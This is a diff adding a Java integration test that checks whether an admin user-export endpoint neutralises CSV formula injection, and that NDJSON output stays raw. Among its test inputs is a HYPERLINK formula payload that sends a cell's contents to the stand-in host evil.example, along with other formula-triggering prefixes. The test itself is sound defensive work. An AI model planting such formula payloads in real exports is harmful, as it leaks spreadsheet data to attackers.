@@ -198,6 +198,48 @@ class AdminExportIT {
     }
 
     @Test
+    void csvCellsThatASpreadsheetWouldReadAsAFormulaAreNeutralisedNdjsonStaysRaw() throws Exception {
+        // OWASP "CSV injection": a player's display name becomes a live formula in the operator's spreadsheet
+        List<String> names = List.of(
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                "+1+1",
+                "-2+3",
+                "@SUM(1,2)",
+                "\ttabbed",
+                "\rreturned",
+                "plain name");
+        Map<String, String> byEmail = new HashMap<>();
+        for (int i = 0; i < names.size(); i++) {
+            String email = "formula" + i + "-" + tag + "@example.com";
+            TestDb.user(email, names.get(i), "a secret password 1");
+            byEmail.put(email, names.get(i));
+        }
+        Response r = Api.session(admin.cookie()).get("/admin-api/users/_export?_sort=id&email_like=" + tag);
+        r.then().statusCode(200);
+        List<List<String>> records = csv(r.asString());
+        List<String> header = records.get(0);
+        assertEquals(names.size() + 1, records.size(), r.asString());
+        for (List<String> record : records.subList(1, records.size())) {
+            String name = byEmail.get(record.get(header.indexOf("email")));
+            String expected = name.equals("plain name") ? name : "'" + name;
+            assertEquals(expected, record.get(header.indexOf("display_name")), "the cell of " + name);
+        }
+        // the numbers stay numbers: only text cells are prefixed
+        assertTrue(
+                records.get(1).get(header.indexOf("id")).matches("[0-9]+"),
+                records.get(1).toString());
+        // NDJSON is data, not a spreadsheet: the values as they are
+        String ndjson = Api.session(admin.cookie())
+                .get("/admin-api/users/_export?format=ndjson&_sort=id&email_like=" + tag)
+                .asString();
+        List<String> exported = new ArrayList<>();
+        for (String line : ndjson.split("\n")) {
+            exported.add(JsonPath.from(line).getString("display_name"));
+        }
+        assertEquals(names, exported);
+    }
+
+    @Test
     void theListRulesDecideWhoMayExport() throws Exception {
         Api.anonymous().get("/admin-api/analyticsEvents/_export").then().statusCode(401);
         Api.Identity outOfScope = Api.signedIn("mod", "cloudSaves");
